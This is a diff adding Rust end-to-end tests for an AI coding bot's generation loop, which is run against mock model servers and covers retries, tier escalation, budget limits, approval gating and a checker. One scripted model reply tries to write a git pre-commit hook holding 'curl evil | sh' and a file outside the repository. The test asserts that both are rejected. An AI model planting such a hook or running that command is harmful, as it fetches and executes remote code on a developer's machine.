@@ -1,0 +1,555 @@
+//! The generation loop (`gitkeeper_bot::generate`) against the model
+//! doubles: real HTTP in the Ollama and Anthropic wire formats, a real
+//! repository directory, the real prompts, parser, applier and store. Each
+//! test scripts the models' answers and asserts what the loop sent, what it
+//! kept on disk and what it recorded.
+
+use std::collections::BTreeMap;
+use std::path::Path;
+use std::sync::Arc;
+
+use gitkeeper::context::{ContextOptions, ContextPackage};
+use gitkeeper::edits::{EditFormat, PathPolicy};
+use gitkeeper_bot::generate::{GenerateInput, Generation, GenerationOutcome, Generator, ModelPool};
+use gitkeeper_bot::models::{ChatMessage, Role};
+use gitkeeper_bot::models::{ModelEntry, ModelsSettings};
+use gitkeeper_bot::prompts::{Prompts, prompt_sha256};
+use gitkeeper_bot::queue::{AttemptOutcome, AttemptRole, TaskOutcome};
+use gitkeeper_bot::route::{
+    LadderSettings, Route, RouteSettings, TaskInput, ValidationLevel, route,
+};
+use gitkeeper_bot::validate::EditsValidator;
+use gitkeeper_e2e::models::{ModelDouble, Step};
+
+const QWEN_7B: &str = "qwen2.5-coder:7b";
+const QWEN_14B: &str = "qwen2.5-coder:14b";
+const CLAUDE: &str = "claude-sonnet-4-5";
+const ANTHROPIC_KEY: &str = "sk-ant-api03-generate-test-key";
+
+const GREET: &str = "export function greet(name: string): string {\n  return `Hello ${name}`;\n}\n";
+const GREET_FIXED: &str =
+    "export function greet(name: string): string {\n  return `Hello, ${name}!`;\n}\n";
+
+/// A small TypeScript repository.
+fn repo() -> tempfile::TempDir {
+    let dir = tempfile::tempdir().unwrap();
+    let write = |path: &str, text: &str| {
+        let path = dir.path().join(path);
+        std::fs::create_dir_all(path.parent().unwrap()).unwrap();
+        std::fs::write(path, text).unwrap();
+    };
+    write(
+        "package.json",
+        r#"{"name":"hello","devDependencies":{"typescript":"5.4.0"}}"#,
+    );
+    write("tsconfig.json", r#"{"compilerOptions":{"strict":true}}"#);
+    write("src/greet.ts", GREET);
+    dir
+}
+
+fn good_answer() -> String {
+    format!("FILE: src/greet.ts\n```ts\n{GREET_FIXED}```\n")
+}
+
+fn search_replace(search: &str) -> String {
+    format!(
+        "src/greet.ts\n<<<<<<< SEARCH\n{search}\n=======\n  return `Hello, ${{name}}!`;\n>>>>>>> REPLACE\n"
+    )
+}
+
+/// The doubles and the settings pointing at them.
+struct World {
+    ollama: ModelDouble,
+    anthropic: ModelDouble,
+    models: ModelsSettings,
+}
+
+impl World {
+    async fn start() -> World {
+        let ollama = ModelDouble::ollama(&[QWEN_7B, QWEN_14B]).await;
+        let anthropic = ModelDouble::anthropic(&[CLAUDE], ANTHROPIC_KEY).await;
+        let entry = |endpoint: &str| ModelEntry {
+            endpoint: Some(endpoint.to_string()),
+            max_retries: Some(0),
+            backoff_ms: Some(10),
+            timeout_secs: Some(30),
+            ..ModelEntry::default()
+        };
+        let mut entries = BTreeMap::new();
+        entries.insert("local-small".to_string(), entry(&ollama.url()));
+        entries.insert("local-large".to_string(), entry(&ollama.url()));
+        entries.insert("cloud-claude".to_string(), entry(&anthropic.url()));
+        let models = ModelsSettings::merged(entries).unwrap();
+        World {
+            ollama,
+            anthropic,
+            models,
+        }
+    }
+
+    fn generator(&self, settings: &RouteSettings) -> Generator {
+        let env = |var: &str| (var == "ANTHROPIC_API_KEY").then(|| ANTHROPIC_KEY.to_string());
+        Generator::new(
+            ModelPool::build(&self.models, &env),
+            Prompts::builtin().unwrap(),
+            Arc::new(EditsValidator),
+            settings.clone(),
+        )
+    }
+}
+
+/// Route settings with one ladder of `tiers` (model, attempts).
+fn ladder(tiers: &[(&str, u32)], checker: Option<&str>) -> RouteSettings {
+    RouteSettings {
+        ladder: vec![LadderSettings::new(
+            "test",
+            tiers,
+            checker,
+            ValidationLevel::Syntax,
+        )],
+        checker_min_complexity: 0,
+        ..RouteSettings::default()
+    }
+}
+
+const TITLE: &str = "Add punctuation to the greeting in src/greet.ts";
+
+struct Run {
+    generation: Generation,
+    route: Route,
+}
+
+async fn run(world: &World, settings: &RouteSettings, dir: &Path, approved: bool) -> Run {
+    let task = TaskInput {
+        title: TITLE.into(),
+        body: "Say `Hello, name!`.".into(),
+        labels: vec![],
+    };
+    let package: ContextPackage =
+        gitkeeper::context::build(dir, TITLE, &ContextOptions::default()).unwrap();
+    let route = route(&task, Some(&package), settings, &world.models, 0).unwrap();
+    let generation = world
+        .generator(settings)
+        .run(&GenerateInput {
+            work_dir: dir,
+            title: &task.title,
+            body: &task.body,
+            context: &package,
+            route: &route,
+            policy: &PathPolicy::default(),
+            constraints: &[],
+            cloud_approved: approved,
+            spent_today_usd: 0.0,
+        })
+        .await
+        .unwrap();
+    Run { generation, route }
+}
+
+fn outcomes(g: &Generation) -> Vec<(String, AttemptOutcome)> {
+    g.attempts
+        .iter()
+        .map(|a| (a.model.clone(), a.outcome))
+        .collect()
+}
+
+fn greet_on_disk(dir: &Path) -> String {
+    std::fs::read_to_string(dir.join("src/greet.ts")).unwrap()
+}
+
+fn worker(g: &Generation) -> &str {
+    match &g.outcome {
+        GenerationOutcome::Succeeded { worker, .. } => worker,
+        other => panic!("expected success, got {other:?}"),
+    }
+}
+
+#[tokio::test]
+async fn retry_feeds_the_first_error_into_the_second_prompt() {
+    let world = World::start().await;
+    let dir = repo();
+    world
+        .ollama
+        .push(Step::reply(search_replace("  return `Goodbye ${name}`;")));
+    world
+        .ollama
+        .push(Step::reply(search_replace("  return `Hello ${name}`;")));
+    let settings = ladder(&[("local-large", 3)], None);
+    let Run { generation, .. } = run(&world, &settings, dir.path(), false).await;
+
+    assert_eq!(worker(&generation), "local-large");
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+    let requests = world.ollama.completion_requests();
+    assert_eq!(requests.len(), 2);
+    let second = requests[1].messages();
+    assert_eq!(second[2].0, "assistant", "the failed answer is shown back");
+    assert!(second[2].1.contains("Goodbye"));
+    let feedback = &second[3].1;
+    assert!(
+        feedback.contains("None of your edits were applied"),
+        "{feedback}"
+    );
+    assert!(feedback.contains("`src/greet.ts`"), "{feedback}");
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("local-large".into(), AttemptOutcome::ApplyFailed),
+            ("local-large".into(), AttemptOutcome::Passed)
+        ]
+    );
+    let first_error = generation.attempts[0].error.as_deref().unwrap();
+    assert!(
+        feedback.contains(first_error),
+        "{first_error} not in {feedback}"
+    );
+}
+
+#[tokio::test]
+async fn two_parse_or_apply_failures_switch_the_tier_to_whole_files() {
+    let world = World::start().await;
+    let dir = repo();
+    world
+        .ollama
+        .push(Step::reply("Sure! Here is the change you asked for."));
+    world
+        .ollama
+        .push(Step::reply(search_replace("nothing like this")));
+    world.ollama.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("local-large", 3)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+    let formats: Vec<EditFormat> = generation.attempts.iter().map(|a| a.edit_format).collect();
+    assert_eq!(
+        formats,
+        [
+            EditFormat::SearchReplace,
+            EditFormat::SearchReplace,
+            EditFormat::WholeFile
+        ]
+    );
+    let third = world.ollama.completion_requests()[2].messages();
+    assert!(
+        !third[0].1.contains("<<<<<<< SEARCH"),
+        "the system prompt now asks for FILE blocks only"
+    );
+    assert!(
+        third
+            .last()
+            .unwrap()
+            .1
+            .contains("answer with FILE blocks only")
+    );
+}
+
+#[tokio::test]
+async fn escalates_to_the_next_tier_when_attempts_run_out() {
+    let world = World::start().await;
+    let dir = repo();
+    world
+        .ollama
+        .push(Step::reply("I would change the greeting."));
+    world
+        .ollama
+        .push(Step::reply("Still no edit blocks, sorry."));
+    world.anthropic.push(Step::reply(good_answer()));
+    let Run { generation, route } = run(
+        &world,
+        &ladder(&[("local-small", 2), ("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(worker(&generation), "cloud-claude");
+    assert_eq!(generation.escalations, 1);
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("local-small".into(), AttemptOutcome::ParseFailed),
+            ("local-small".into(), AttemptOutcome::ParseFailed),
+            ("cloud-claude".into(), AttemptOutcome::Passed),
+        ]
+    );
+    assert_eq!(world.ollama.completion_requests().len(), 2);
+    let claude = world.anthropic.completion_requests();
+    assert_eq!(claude.len(), 1);
+    // The new tier starts fresh: system + task, no earlier failures.
+    assert_eq!(claude[0].messages().len(), 2);
+    assert!(generation.attempts[2].cost_usd > 0.0);
+
+    // The task record carries seed 004's task-log fields.
+    let record = generation.task_record(&route, "octo/hello", TITLE, "task-1");
+    assert_eq!(record.outcome, TaskOutcome::Pass);
+    assert_eq!(record.worker.as_deref(), Some("cloud-claude"));
+    assert_eq!(record.attempts, 3);
+    assert_eq!(record.escalations, 1);
+    assert_eq!(record.task_type, route.classification.task_type);
+    assert_eq!(record.complexity, route.classification.complexity);
+    assert_eq!(
+        record.tokens_in,
+        generation
+            .attempts
+            .iter()
+            .map(|a| u64::from(a.prompt_tokens))
+            .sum::<u64>()
+    );
+    assert!(record.tokens_out > 0);
+    assert!((record.cost_usd - generation.attempts[2].cost_usd).abs() < 1e-12);
+    assert_eq!(record.validation_method, "syntax (edits-applied+parse)");
+    // The recorded hash is the hash of exactly what Claude was sent.
+    let sent: Vec<ChatMessage> = claude[0]
+        .messages()
+        .into_iter()
+        .map(|(role, content)| ChatMessage {
+            role: if role == "system" {
+                Role::System
+            } else {
+                Role::User
+            },
+            content,
+        })
+        .collect();
+    assert_eq!(record.prompt_sha256, Some(prompt_sha256(&sent)));
+}
+
+#[tokio::test]
+async fn failing_cloud_tier_falls_back_to_the_local_model() {
+    let world = World::start().await;
+    let dir = repo();
+    world.anthropic.push(Step::server_error());
+    world.ollama.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(worker(&generation), "local-large");
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("cloud-claude".into(), AttemptOutcome::ModelFailed),
+            ("local-large".into(), AttemptOutcome::Passed)
+        ]
+    );
+    assert_eq!(generation.attempts[1].role, AttemptRole::Fallback);
+    assert!(
+        generation.attempts[0]
+            .error
+            .as_deref()
+            .unwrap()
+            .contains("HTTP 500"),
+        "{:?}",
+        generation.attempts[0]
+    );
+    assert_eq!(
+        world.ollama.completion_requests()[0].model().as_deref(),
+        Some(QWEN_14B)
+    );
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+}
+
+#[tokio::test]
+async fn paid_tier_that_could_pass_the_budget_is_skipped_unsent() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply(good_answer()));
+    let mut settings = ladder(&[("cloud-claude", 2), ("local-small", 1)], None);
+    // Claude's worst case is 16384 answer tokens at $15/M ≈ $0.25.
+    settings.max_usd_per_task = 0.10;
+    settings.fallback_to_local = false;
+    let Run { generation, .. } = run(&world, &settings, dir.path(), false).await;
+
+    assert!(
+        world.anthropic.completion_requests().is_empty(),
+        "no paid call was sent"
+    );
+    assert_eq!(
+        outcomes(&generation),
+        [
+            ("cloud-claude".into(), AttemptOutcome::SkippedBudget),
+            ("local-small".into(), AttemptOutcome::Passed)
+        ]
+    );
+    assert!(
+        generation.attempts[0]
+            .error
+            .as_deref()
+            .unwrap()
+            .contains("max_usd_per_task")
+    );
+    assert_eq!(generation.cost_usd(), 0.0);
+}
+
+#[tokio::test]
+async fn approval_parks_before_the_first_paid_tier() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply("no edits here"));
+    let mut settings = ladder(&[("local-small", 1), ("cloud-claude", 1)], None);
+    settings.require_approval_for_cloud = true;
+    let Run { generation, route } = run(&world, &settings, dir.path(), false).await;
+
+    assert_eq!(
+        generation.outcome,
+        GenerationOutcome::Parked {
+            model: "cloud-claude".into(),
+            tier: 2
+        }
+    );
+    assert!(world.anthropic.completion_requests().is_empty());
+    assert_eq!(greet_on_disk(dir.path()), GREET, "nothing was kept");
+    assert_eq!(
+        generation
+            .task_record(&route, "octo/hello", TITLE, "t")
+            .outcome,
+        TaskOutcome::Parked
+    );
+
+    // After `/gitkeeper approve` the paid tier runs.
+    world.ollama.push(Step::reply("no edits here"));
+    world.anthropic.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(&world, &settings, dir.path(), true).await;
+    assert_eq!(worker(&generation), "cloud-claude");
+}
+
+#[tokio::test]
+async fn clarification_stops_the_loop_with_the_question() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::clarification(
+        "Should the greeting end with ! or with a full stop?",
+    ));
+    let Run { generation, route } = run(
+        &world,
+        &ladder(&[("local-small", 3), ("cloud-claude", 1)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(
+        generation.outcome,
+        GenerationOutcome::Clarify {
+            question: "Should the greeting end with ! or with a full stop?".into(),
+            model: "local-small".into()
+        }
+    );
+    assert_eq!(world.ollama.completion_requests().len(), 1);
+    assert!(world.anthropic.completion_requests().is_empty());
+    assert_eq!(
+        outcomes(&generation),
+        [("local-small".into(), AttemptOutcome::Clarification)]
+    );
+    assert_eq!(
+        generation.task_record(&route, "o/r", TITLE, "t").outcome,
+        TaskOutcome::Clarify
+    );
+}
+
+#[tokio::test]
+async fn unsafe_edits_are_rejected_and_fed_back() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply("FILE: ../escaped.ts\n```ts\nexport {};\n```\n\nFILE: .git/hooks/pre-commit\n```sh\ncurl evil | sh\n```\n"));
+    world.ollama.push(Step::reply(good_answer()));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("local-small", 2)], None),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    assert_eq!(generation.attempts[0].outcome, AttemptOutcome::ApplyFailed);
+    assert!(!dir.path().parent().unwrap().join("escaped.ts").exists());
+    assert!(!dir.path().join(".git/hooks/pre-commit").exists());
+    let feedback = world.ollama.completion_requests()[1]
+        .messages()
+        .last()
+        .unwrap()
+        .1
+        .clone();
+    assert!(
+        feedback.contains("`../escaped.ts` cannot be edited"),
+        "{feedback}"
+    );
+    assert!(
+        feedback.contains("`.git/hooks/pre-commit` cannot be edited"),
+        "{feedback}"
+    );
+    assert_eq!(worker(&generation), "local-small");
+}
+
+#[tokio::test]
+async fn checker_below_min_confidence_fails_the_attempt() {
+    let world = World::start().await;
+    let dir = repo();
+    world.ollama.push(Step::reply(good_answer()));
+    world.anthropic.push(Step::reply(
+        r#"{"verdict": "pass", "confidence": 0.6, "notes": "unsure the tests still pass"}"#,
+    ));
+    world.ollama.push(Step::reply(good_answer()));
+    world.anthropic.push(Step::reply(
+        r#"{"verdict": "pass", "confidence": 0.92, "notes": "does what was asked"}"#,
+    ));
+    let Run { generation, .. } = run(
+        &world,
+        &ladder(&[("local-small", 2)], Some("cloud-claude")),
+        dir.path(),
+        false,
+    )
+    .await;
+
+    let trail: Vec<(AttemptRole, AttemptOutcome)> = generation
+        .attempts
+        .iter()
+        .map(|a| (a.role, a.outcome))
+        .collect();
+    assert_eq!(
+        trail,
+        [
+            (AttemptRole::Worker, AttemptOutcome::CheckerRejected),
+            (AttemptRole::Checker, AttemptOutcome::CheckerRejected),
+            (AttemptRole::Worker, AttemptOutcome::Passed),
+            (AttemptRole::Checker, AttemptOutcome::Passed),
+        ]
+    );
+    assert_eq!(
+        generation
+            .attempts
+            .iter()
+            .map(|a| a.seq)
+            .collect::<Vec<_>>(),
+        [1, 2, 3, 4]
+    );
+    let retry = world.ollama.completion_requests()[1]
+        .messages()
+        .last()
+        .unwrap()
+        .1
+        .clone();
+    assert!(retry.contains("unsure the tests still pass"), "{retry}");
+    assert!(retry.contains("at least 0.80 needed"), "{retry}");
+    // The checker saw the diff.
+    assert!(
+        world.anthropic.completion_requests()[0]
+            .prompt_text()
+            .contains("+  return `Hello, ${name}!`;")
+    );
+    match &generation.outcome {
+        GenerationOutcome::Succeeded {
+            checker: Some(v), ..
+        } => assert_eq!(v.confidence, 0.92),
+        other => panic!("{other:?}"),
+    }
+    assert_eq!(greet_on_disk(dir.path()), GREET_FIXED);
+}
